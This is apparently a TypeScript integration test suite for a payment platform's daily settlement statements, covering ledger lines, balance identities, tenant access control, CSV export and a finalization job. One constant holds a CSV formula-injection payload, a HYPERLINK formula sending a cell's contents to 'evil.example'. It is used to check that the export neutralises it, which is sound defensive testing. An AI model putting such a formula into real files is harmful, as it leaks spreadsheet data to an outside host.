import { useApiHarness, createSecondMerchant, expectProblem } from '../helpers/api';
import { dialectName } from '../helpers/db';
import { cardPaymentFees, expectLedgerInvariant, postDirectCapture } from '../helpers/ledger';
import { operatorContext } from '../../src/services/access/operators';
import { inTransaction, type CallerContext } from '../../src/domain/context';
import { balancesOf } from '../../src/services/ledger/balances';
import { post } from '../../src/services/ledger/post';
import { postRefund } from '../../src/services/ledger/postings/refund';
import { postWithdrawal } from '../../src/services/ledger/postings/withdrawal';
import { releaseDue } from '../../src/services/ledger/releases';
import { finalizeDue, LINE_RULES } from '../../src/services/settlements/statements';
import { runDueSandboxOperations } from '../../src/services/sandbox/acquirer';
import { backgroundJobs } from '../../src/jobs';
import { settlementsJob } from '../../src/jobs/settlements';
import { createApiKey } from '../../src/services/api-keys/keys';
import { createTenant } from '../../src/services/tenants/tenants';
import { closeRuntime, openRuntime, type Runtime } from '../../src/runtime';
import { PLATFORM_ID } from '../../src/services/tenants/platform';
import { newId } from '../../src/util/ids';
import type { LedgerAccount, LedgerSourceType } from '../../src/db/models/ledger';
import { parseCsv } from '../helpers/csv';
import { money } from '../helpers/amounts';
import { openSession, completeWithCard } from '../helpers/money';

// Issue 23, part 3: settlement statements. One per merchant, currency and UTC day, opened by the first movement;
// lines derived from the ledger's entries; the identities (opening + lines = closing, closing = next opening, the
// statements add up to the balances); the settlements job finalizing each past day once; the CSV download.

const DAY = 86_400_000;
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me"), +SUM(1;2)';

let tenant: CallerContext;
let platform: CallerContext;
let m1: string;
let m2: string;
let m2Key: string;
let otherTenantKey: string;
const providerIntegrationId = newId();
const clearing = newId();

type Line = {
  id: string;
  type: string;
  sourceType: string;
  sourceId: string;
  amount: { valueMinor: number };
  fee: { valueMinor: number };
  net: { valueMinor: number };
  balanceType: 'pending' | 'available' | 'reserved' | 'payable';
  feeBreakdown?: Record<string, { valueMinor: number }> | null;
  postingType: string;
};
type Statement = {
  id: string;
  merchantId: string;
  currency: string;
  periodStart: string;
  periodEnd: string;
  status: string;
  lineCount: number;
  openingBalance: Record<string, { valueMinor: number }>;
  closingBalance: Record<string, { valueMinor: number }>;
  totals: Record<string, { valueMinor: number }>;
  downloadUrl: string;
};

async function capture(merchantId: string, currency: string, amount: number, options: { reserve?: number; immediate?: boolean } = {}) {
  const b = await cardPaymentFees(tenant, merchantId, money(currency, amount), h.clock.now());
  const breakdown = options.reserve
    ? { ...b, reserve: options.reserve, reserveFrom: { ...(b.reserveFrom ?? {}), autoRelease: true, holdDays: 1 } as never }
    : b;
  const paymentId = await postDirectCapture(tenant, {
    tenantId: h.sandbox.tenantId,
    merchantId,
    providerIntegrationId,
    breakdown,
    immediate: options.immediate,
  });
  return { paymentId, breakdown };
}

/** A posting of the given sourceType as the disputes and payouts helpers' postings are made. */
function direct(
  sourceType: LedgerSourceType,
  lines: Array<[LedgerAccount, string, number]>,
  description: string | null = null,
  currency = 'EUR',
  sourceId = newId(),
) {
  return post(platform, {
    tenantId: h.sandbox.tenantId,
    livemode: false,
    sourceType,
    sourceId,
    description,
    lines: lines.map(([account, ownerId, amountMinor]) => ({ account, ownerId, currency, amountMinor })),
  }).then(() => sourceId);
}

/** A platform token issued now (the sandbox's expires as the test clock moves days ahead). */
async function platformToken(): Promise<string> {
  return (await h.rt.tokens.issue(h.sandbox.platformUserId, h.rt.tokens.maxLifetimeSeconds, false)).token;
}

async function allPages<T>(key: string, path: string): Promise<T[]> {
  const out: T[] = [];
  let cursor: string | null = null;
  for (;;) {
    const sep = path.includes('?') ? '&' : '?';
    const res: { body: { data: T[]; pagination: { nextCursor: string | null } } } = await h
      .as(key)
      .get(`${path}${sep}limit=3${cursor ? `&cursor=${cursor}` : ''}`)
      .expect(200);
    out.push(...res.body.data);
    cursor = res.body.pagination.nextCursor;
    if (!cursor) return out;
  }
}

async function statementsOf(merchantId: string, currency: string, key = h.sandbox.tenantKey.secretKey): Promise<Statement[]> {
  const all = await allPages<Statement>(key, `/v1/settlements?merchantId=${merchantId}&currency=${currency}&sortOrder=asc`);
  return all.sort((a, b) => a.periodStart.localeCompare(b.periodStart));
}

const BALANCE_TYPES = ['pending', 'available', 'reserved', 'payable'] as const;

/** The three identities over a merchant's statements in a currency, on the API's answers. */
async function expectIdentities(merchantId: string, currency: string): Promise<Statement[]> {
  const statements = await statementsOf(merchantId, currency);
  expect(statements.length).toBeGreaterThan(0);
  let previous: Statement | null = null;
  for (const st of statements) {
    const lines = await allPages<Line>(h.sandbox.tenantKey.secretKey, `/v1/settlements/${st.id}/lines`);
    expect(lines).toHaveLength(st.lineCount);
    for (const type of BALANCE_TYPES) {
      const moved = lines.filter((l) => l.balanceType === type).reduce((s, l) => s + l.net.valueMinor, 0);
      expect([st.id, type, st.openingBalance[type].valueMinor + moved]).toEqual([st.id, type, st.closingBalance[type].valueMinor]);
      // one day's closing is the next day's opening
      expect(st.openingBalance[type].valueMinor).toBe(previous ? previous.closingBalance[type].valueMinor : 0);
    }
    for (const l of lines) expect(l.amount.valueMinor - l.fee.valueMinor).toBe(l.net.valueMinor);
    expect(st.totals.net.valueMinor).toBe(lines.reduce((s, l) => s + l.net.valueMinor, 0));
    const t = st.totals;
    expect(
      t.gross.valueMinor -
        t.fees.valueMinor +
        t.refunds.valueMinor +
        t.disputes.valueMinor +
        t.withdrawals.valueMinor +
        t.payouts.valueMinor +
        t.adjustments.valueMinor,
    ).toBe(t.net.valueMinor);
    previous = st;
  }
  // the statements add up to the ledger's balances
  const [balance] = await balancesOf(tenant, { merchantId, currency });
  for (const type of BALANCE_TYPES) expect(previous!.closingBalance[type].valueMinor).toBe(balance[type].valueMinor);
  return statements;
}

let day1: string;
let dispute: string;
let paymentViaApi: string;

const h = useApiHarness({ config: { sandboxDelayMs: 0 } });
beforeAll(async () => {
  tenant = operatorContext(h.rt, { level: 'tenant', tenantId: h.sandbox.tenantId, livemode: false });
  platform = operatorContext(h.rt, { level: 'platform', tenantId: null, livemode: false });
  m1 = h.sandbox.merchantId;
  ({ merchantId: m2, secretKey: m2Key } = await createSecondMerchant(h));
  const other = await createTenant(platform, { name: 'Other tenant', livemode: false });
  otherTenantKey = (
    await createApiKey(operatorContext(h.rt, { level: 'tenant', tenantId: other.id, livemode: false }), {
      ownerType: 'tenant',
      livemode: false,
    })
  ).secretKey;
}, 60_000);

describe(`settlement statements over several days (${dialectName})`, () => {
  it("day 1: the first movement opens the day's statement at once (a payment through the API)", async () => {
    day1 = new Date(Math.floor(h.clock.now().getTime() / DAY) * DAY).toISOString();
    expect((await h.as(h.sandbox.tenantKey.secretKey).get('/v1/settlements').expect(200)).body.data).toEqual([]);
    const key = h.sandbox.merchantKey.secretKey;
    const session = await openSession(h, { amount: money('EUR', 10_000) }, key);
    paymentViaApi = (await completeWithCard(h, session.id, '4242424242424242', key)).paymentId;
    expect(await runDueSandboxOperations(h.rt)).toBe(1);
    const listed = await h.as(key).get('/v1/settlements').expect(200);
    expect(listed.body.data).toHaveLength(1);
    expect(listed.body.data[0]).toMatchObject({
      merchantId: m1,
      currency: 'EUR',
      status: 'open',
      periodStart: day1,
      periodEnd: new Date(Date.parse(day1) + DAY).toISOString(),
      finalizedAt: null,
    });
    const lines = (await h.as(key).get(`/v1/settlements/${listed.body.data[0].id}/lines`).expect(200)).body.data as Line[];
    expect(lines.map((l) => [l.type, l.sourceType, l.sourceId])).toEqual([
      ['payment', 'payment', paymentViaApi],
      ['fee', 'payment', paymentViaApi],
    ]);
  });

  it('day 1: captures with a reserve, a refund, an adjustment with a hostile description, a dispute (new sourceTypes posted directly)', async () => {
    h.clock.advance(60_000);
    const { paymentId, breakdown } = await capture(m1, 'EUR', 20_000, { reserve: 1_000 });
    h.clock.advance(60_000);
    await inTransaction(tenant, (t) =>
      postRefund(t, {
        tenantId: h.sandbox.tenantId,
        livemode: false,
        merchantId: m1,
        paymentId,
        refundId: newId(),
        providerIntegrationId,
        partnerId: null,
        amount: money('EUR', 2_500),
        fee: null,
      }),
    );
    h.clock.advance(60_000);
    await direct(
      'adjustment',
      [
        ['provider_clearing', clearing, -5_000],
        ['merchant_available', m1, 5_000],
      ],
      HOSTILE,
    );
    h.clock.advance(60_000);
    // a dispute: available −(amount + fee), the amount to the acquirer's side, the fee to its revenue owners
    dispute = await direct('dispute', [
      ['merchant_available', m1, -4_500],
      ['provider_clearing', clearing, 3_000],
      ['platform_revenue', PLATFORM_ID, 1_000],
      ['tenant_revenue', h.sandbox.tenantId, 500],
    ]);
    // another merchant, another currency: a statement of its own
    await capture(m2, 'USD', 7_000, { immediate: true });
    const [st] = await statementsOf(m1, 'EUR');
    const lines = await allPages<Line>(h.sandbox.tenantKey.secretKey, `/v1/settlements/${st.id}/lines`);
    const types = lines.map((l) => l.type);
    expect(types).toEqual(['payment', 'fee', 'payment', 'fee', 'reserve_hold', 'refund', 'adjustment', 'dispute', 'dispute_fee']);
    const disputeFee = lines.find((l) => l.type === 'dispute_fee')!;
    expect(disputeFee).toMatchObject({
      sourceType: 'dispute',
      sourceId: dispute,
      fee: money('EUR', 1_500),
      net: money('EUR', -1_500),
      balanceType: 'available',
    });
    expect(disputeFee.feeBreakdown).toMatchObject({
      platformFee: money('EUR', 1_000),
      tenantFee: money('EUR', 500),
      providerFee: money('EUR', 0),
    });
    expect(lines.find((l) => l.type === 'dispute')).toMatchObject({ amount: money('EUR', -3_000), net: money('EUR', -3_000) });
    expect(lines.find((l) => l.type === 'reserve_hold')).toMatchObject({
      sourceId: paymentId,
      net: money('EUR', 1_000),
      balanceType: 'reserved',
    });
    expect(st.totals).toMatchObject({
      refunds: money('EUR', -2_500),
      disputes: money('EUR', -3_000),
      adjustments: money('EUR', 5_000),
      reserveHeld: money('EUR', 1_000),
    });
    expect(st.totals.gross).toEqual(money('EUR', 30_000));
    expect(st.totals.fees.valueMinor).toBe(breakdown.merchantFee + lines[1].fee.valueMinor + 1_500);
    await expectIdentities(m1, 'EUR');
    await expectIdentities(m2, 'USD');
  });

  it('day 2 has no movement and no statement; day 3: releases, a payout paid, a payout reversed, a won dispute, a withdrawal', async () => {
    h.clock.advance(2 * DAY);
    // the holding period (48 h) and the reserve (1 day) have passed: both move to available
    expect(await releaseDue(h.rt)).toBeGreaterThanOrEqual(2);
    h.clock.advance(60_000);
    const paid = newId();
    await direct(
      'payout',
      [
        ['merchant_available', m1, -4_000],
        ['merchant_payable', m1, 4_000],
      ],
      null,
      'EUR',
      paid,
    );
    await direct(
      'payout_paid',
      [
        ['merchant_payable', m1, -4_000],
        ['payout_clearing', clearing, 3_800],
        ['platform_revenue', PLATFORM_ID, 200],
      ],
      null,
      'EUR',
      paid,
    );
    const failed = newId();
    await direct(
      'payout',
      [
        ['merchant_available', m1, -1_000],
        ['merchant_payable', m1, 1_000],
      ],
      null,
      'EUR',
      failed,
    );
    await direct(
      'payout_reversal',
      [
        ['merchant_payable', m1, -1_000],
        ['merchant_available', m1, 1_000],
      ],
      null,
      'EUR',
      failed,
    );
    await direct(
      'dispute_reversal',
      [
        ['provider_clearing', clearing, -3_000],
        ['merchant_available', m1, 3_000],
      ],
      null,
      'EUR',
      dispute,
    );
    const withdrawalId = newId();
    const w = { tenantId: h.sandbox.tenantId, livemode: false, merchantId: m1, withdrawalId, amount: money('EUR', 1_200), fee: null };
    await inTransaction(tenant, (t) => postWithdrawal(t, 'hold', w));
    await inTransaction(tenant, (t) => postWithdrawal(t, 'complete', { ...w, channelId: clearing }));
    const statements = await expectIdentities(m1, 'EUR');
    expect(statements.map((s) => s.periodStart)).toEqual([day1, new Date(Date.parse(day1) + 2 * DAY).toISOString()]);
    const day3 = statements[1];
    const lines = await allPages<Line>(h.sandbox.tenantKey.secretKey, `/v1/settlements/${day3.id}/lines`);
    expect(new Set(lines.map((l) => l.type))).toEqual(
      new Set(['payment', 'reserve_release', 'payout', 'fee', 'payout_reversal', 'dispute_reversal', 'withdrawal']),
    );
    // a release names the payment it releases
    expect(lines.filter((l) => l.postingType === 'release').every((l) => l.sourceType === 'payment' && l.sourceId !== '')).toBe(true);
    expect(lines.find((l) => l.type === 'fee' && l.postingType === 'payout_paid')).toMatchObject({
      sourceType: 'payout',
      sourceId: paid,
      fee: money('EUR', 200),
    });
    expect(day3.totals).toMatchObject({
      payouts: money('EUR', -3_800),
      withdrawals: money('EUR', -1_200),
      disputes: money('EUR', 3_000),
      reserveReleased: money('EUR', 1_000),
      gross: money('EUR', 0),
    });
  });

  it('every ledger sourceType has a line rule', () => {
    for (const type of [
      'payment',
      'refund',
      'release',
      'reserve_release',
      'withdrawal',
      'adjustment',
      'dispute',
      'dispute_reversal',
      'payout',
      'payout_paid',
      'payout_reversal',
    ]) {
      expect(LINE_RULES[type as LedgerSourceType]).toBeDefined();
    }
  });
});

describe(`the operations (${dialectName})`, () => {
  it('filters: merchantId, currency, status, periodFrom, periodTo; pagination', async () => {
    const key = h.sandbox.tenantKey.secretKey;
    const all = (await h.as(key).get('/v1/settlements').expect(200)).body;
    expect(all.data).toHaveLength(3);
    expect(all.pagination.totalCount).toBe(3);
    expect((await h.as(key).get('/v1/settlements?currency=USD').expect(200)).body.data.map((s: Statement) => s.merchantId)).toEqual([m2]);
    expect((await h.as(key).get(`/v1/settlements?merchantId=${m1}`).expect(200)).body.data).toHaveLength(2);
    expect((await h.as(key).get('/v1/settlements?status=finalized').expect(200)).body.data).toHaveLength(0);
    const day3 = new Date(Date.parse(day1) + 2 * DAY).toISOString().slice(0, 10);
    expect(
      (await h.as(key).get(`/v1/settlements?periodFrom=${day3}`).expect(200)).body.data.map((s: Statement) => s.periodStart.slice(0, 10)),
    ).toEqual([day3]);
    expect(
      (
        await h
          .as(key)
          .get(`/v1/settlements?periodTo=${day1.slice(0, 10)}`)
          .expect(200)
      ).body.data,
    ).toHaveLength(2);
    expect((await h.as(key).get(`/v1/settlements?periodTo=${day1}`).expect(200)).body.data).toHaveLength(2);
    const page = (await h.as(key).get('/v1/settlements?limit=2').expect(200)).body;
    expect(page.pagination.hasMore).toBe(true);
    const next = (await h.as(key).get(`/v1/settlements?limit=2&cursor=${page.pagination.nextCursor}`).expect(200)).body;
    expect([...page.data, ...next.data].map((s: Statement) => s.id).sort()).toEqual(all.data.map((s: Statement) => s.id).sort());
    expectProblem(await h.as(key).get('/v1/settlements?periodFrom=yesterday'), 400);
    expectProblem(await h.as(key).get('/v1/settlements?status=closed'), 400);
    // the platform sees them too
    expect(
      (
        await h
          .as(await platformToken())
          .get(`/v1/settlements?merchantId=${m1}`)
          .expect(200)
      ).body.data,
    ).toHaveLength(2);
  });

  it('404 across tenants and merchants, for get, lines and download', async () => {
    const [st] = await statementsOf(m1, 'EUR');
    for (const path of [`/v1/settlements/${st.id}`, `/v1/settlements/${st.id}/lines`, `/v1/settlements/${st.id}/download`]) {
      expectProblem(await h.as(otherTenantKey).get(path), 404);
      expectProblem(await h.as(m2Key).get(path), 404);
      await h.as(h.sandbox.merchantKey.secretKey).get(path).expect(200);
    }
    expect((await h.as(m2Key).get('/v1/settlements').expect(200)).body.data.map((s: Statement) => s.merchantId)).toEqual([m2]);
    expect((await h.as(otherTenantKey).get('/v1/settlements').expect(200)).body.data).toEqual([]);
    expectProblem(await h.as(m2Key).get(`/v1/settlements?merchantId=${m1}`), 404);
  });

  it('merchant callers see the total fee only; tenant and platform callers its parts', async () => {
    const [st] = await statementsOf(m1, 'EUR');
    const asMerchant = (await h.as(h.sandbox.merchantKey.secretKey).get(`/v1/settlements/${st.id}/lines?limit=100`).expect(200)).body
      .data as Line[];
    const asTenant = (await h.as(h.sandbox.tenantKey.secretKey).get(`/v1/settlements/${st.id}/lines?limit=100`).expect(200)).body
      .data as Line[];
    const asPlatform = (
      await h
        .as(await platformToken())
        .get(`/v1/settlements/${st.id}/lines?limit=100`)
        .expect(200)
    ).body.data as Line[];
    const fee = (lines: Line[]) => lines.find((l) => l.type === 'dispute_fee')!;
    expect(fee(asMerchant).fee).toEqual(money('EUR', 1_500));
    expect(fee(asMerchant).feeBreakdown).toBeUndefined();
    expect(fee(asTenant).feeBreakdown).toMatchObject({ platformFee: money('EUR', 1_000) });
    expect(fee(asPlatform).feeBreakdown).toMatchObject({ platformFee: money('EUR', 1_000) });
    const merchantStatement = (await h.as(h.sandbox.merchantKey.secretKey).get(`/v1/settlements/${st.id}`).expect(200)).body.data;
    expect(merchantStatement.totals.feeBreakdown).toBeUndefined();
    expect(
      (await h.as(h.sandbox.tenantKey.secretKey).get(`/v1/settlements/${st.id}`).expect(200)).body.data.totals.feeBreakdown.platformFee
        .valueMinor,
    ).toBeGreaterThanOrEqual(1_000);
    // the CSV: parts as columns for tenants only
    const header = (key: string) =>
      h
        .as(key)
        .get(`/v1/settlements/${st.id}/download`)
        .expect(200)
        .then((r) => r.text.split('\r\n')[0]);
    expect(await header(h.sandbox.merchantKey.secretKey)).not.toContain('platform_fee');
    expect(await header(h.sandbox.tenantKey.secretKey)).toContain('platform_fee');
  });

  it('the CSV: RFC 4180, BOM, header, amounts in major units, a hostile description neutralised', async () => {
    const [st] = await statementsOf(m1, 'EUR');
    const res = await h
      .as(h.sandbox.merchantKey.secretKey)
      .get(`/v1/settlements/${st.id}/download`)
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toContain(`settlement-${day1.slice(0, 10)}-EUR-${m1}.csv`);
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.toString('utf8').slice(1);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const records = parseCsv(text);
    const header = records[0];
    expect(header.slice(0, 11)).toEqual([
      'record',
      'occurred_at',
      'type',
      'source_type',
      'source_id',
      'balance_type',
      'description',
      'currency',
      'amount',
      'fee',
      'net',
    ]);
    expect(records.every((r) => r.length === header.length)).toBe(true);
    const col = (r: string[], name: string) => r[header.indexOf(name)];
    const lines = records.filter((r) => r[0] === 'line');
    expect(lines).toHaveLength(st.lineCount);
    const adjustment = lines.find((r) => col(r, 'type') === 'adjustment')!;
    // neutralised: the spreadsheet shows the text; quoted (it holds commas and quotes), its quotes doubled
    expect(col(adjustment, 'description')).toBe(`'${HOSTILE}`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me""), +SUM(1;2)"`);
    expect(col(adjustment, 'net')).toBe('50.00');
    expect(
      col(
        lines.find((r) => col(r, 'type') === 'refund')!,
        'net',
      ),
    ).toBe('-25.00');
    expect(col(adjustment, 'currency')).toBe('EUR');
    expect(col(adjustment, 'occurred_at')).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    const totals = Object.fromEntries(records.filter((r) => r[0] === 'total').map((r) => [col(r, 'type'), col(r, 'net')]));
    expect(totals).toMatchObject({ refunds: '-25.00', disputes: '-30.00', adjustments: '50.00', gross: '300.00' });
    expect(records.filter((r) => r[0] === 'opening_balance').map((r) => col(r, 'balance_type'))).toEqual([
      'pending',
      'available',
      'reserved',
      'payable',
    ]);
    expect(records.filter((r) => r[0] === 'closing_balance')).toHaveLength(4);
  });
});

describe(`the settlements job (${dialectName})`, () => {
  it('finalizes each past day once, stores what it computed, raises settlement.finalized once with an absolute download URL', async () => {
    const before = await statementsOf(m1, 'EUR');
    // today's statement (day 3) stays open: its day has not ended
    expect(await finalizeDue(h.rt)).toBe(2);
    expect(await finalizeDue(h.rt)).toBe(0);
    const after = await statementsOf(m1, 'EUR');
    expect(after.map((s) => s.status)).toEqual(['finalized', 'open']);
    // the download URL's base is each request's own origin (supertest listens on a new port each time)
    const {
      status: _s,
      finalizedAt: _f,
      updatedAt: _u,
      downloadUrl: _d,
      ...was
    } = before[0] as Statement & { finalizedAt: string; updatedAt: string };
    expect(after[0]).toMatchObject(was);
    const events = (await h.rt.db.models.Event.findAll({ where: { type: 'settlement.finalized' }, raw: true })) as unknown as {
      data: unknown;
      merchantId: string;
    }[];
    expect(events).toHaveLength(2);
    const data = events.map((e) => (typeof e.data === 'string' ? JSON.parse(e.data) : e.data) as Statement & { object: string });
    const mine = data.find((d) => d.id === before[0].id)!;
    expect(mine).toMatchObject({
      object: 'settlement',
      status: 'finalized',
      totals: before[0].totals,
      closingBalance: before[0].closingBalance,
      lineCount: before[0].lineCount,
    });
    expect(mine.downloadUrl).toBe(`http://127.0.0.1:4242/v1/settlements/${before[0].id}/download`);
    expect(mine).not.toHaveProperty('lines');
    // and an audit entry of each finalization, by the system
    const audited = (await h.rt.db.models.AuditEntry.findAll({
      where: { action: 'settlement_statement.finalized' },
      raw: true,
    })) as unknown as { targetId: string; targetType: string; actorType: string }[];
    expect(audited.map((a) => a.targetId).sort()).toEqual(data.map((d) => d.id).sort());
    expect(audited.every((a) => a.targetType === 'settlement_statement')).toBe(true);
    // a day later the third is finalized too; the identities still hold on the stored figures
    h.clock.advance(DAY);
    expect(await finalizeDue(h.rt)).toBe(1);
    await expectIdentities(m1, 'EUR');
    await expectLedgerInvariant(h.rt);
  });

  it('two runtimes finalizing at once: each statement once, its event once', async () => {
    // a new day of movements for both merchants, then past its end
    await direct('adjustment', [
      ['provider_clearing', clearing, -100],
      ['merchant_available', m1, 100],
    ]);
    await direct(
      'adjustment',
      [
        ['provider_clearing', clearing, -100],
        ['merchant_available', m2, 100],
      ],
      null,
      'USD',
    );
    h.clock.advance(DAY);
    const other: Runtime = await openRuntime(h.rt.config, { migrate: false, logger: h.rt.logger, clock: h.clock });
    try {
      const counts = await Promise.all([finalizeDue(h.rt), finalizeDue(other), finalizeDue(h.rt), finalizeDue(other)]);
      expect(counts.reduce((a, b) => a + b, 0)).toBe(2);
    } finally {
      await closeRuntime(other);
    }
    const events = (await h.rt.db.models.Event.findAll({ where: { type: 'settlement.finalized' }, raw: true })) as unknown as {
      data: { id: string } | string;
    }[];
    const ids = events.map((e) => (typeof e.data === 'string' ? JSON.parse(e.data) : e.data).id as string);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toHaveLength(5);
  });
});

describe(`the settlements job of serve (${dialectName})`, () => {
  it("is one of serve's jobs and finalizes on its tick, read from the injected clock", async () => {
    expect(backgroundJobs).toContain(settlementsJob);
    await direct('adjustment', [
      ['provider_clearing', clearing, -700],
      ['merchant_available', m1, 700],
    ]);
    const [open] = (await statementsOf(m1, 'EUR')).filter((st) => st.status === 'open');
    expect(open).toBeDefined();
    h.clock.advance(DAY);
    // a tick at start: stop() waits for its run
    const job = settlementsJob.start(h.rt);
    await job.stop();
    const after = (await h.as(h.sandbox.tenantKey.secretKey).get(`/v1/settlements/${open.id}`).expect(200)).body.data as Statement & {
      finalizedAt: string;
    };
    expect(after.status).toBe('finalized');
    expect(after.finalizedAt).toBe(h.clock.now().toISOString());
  });
});
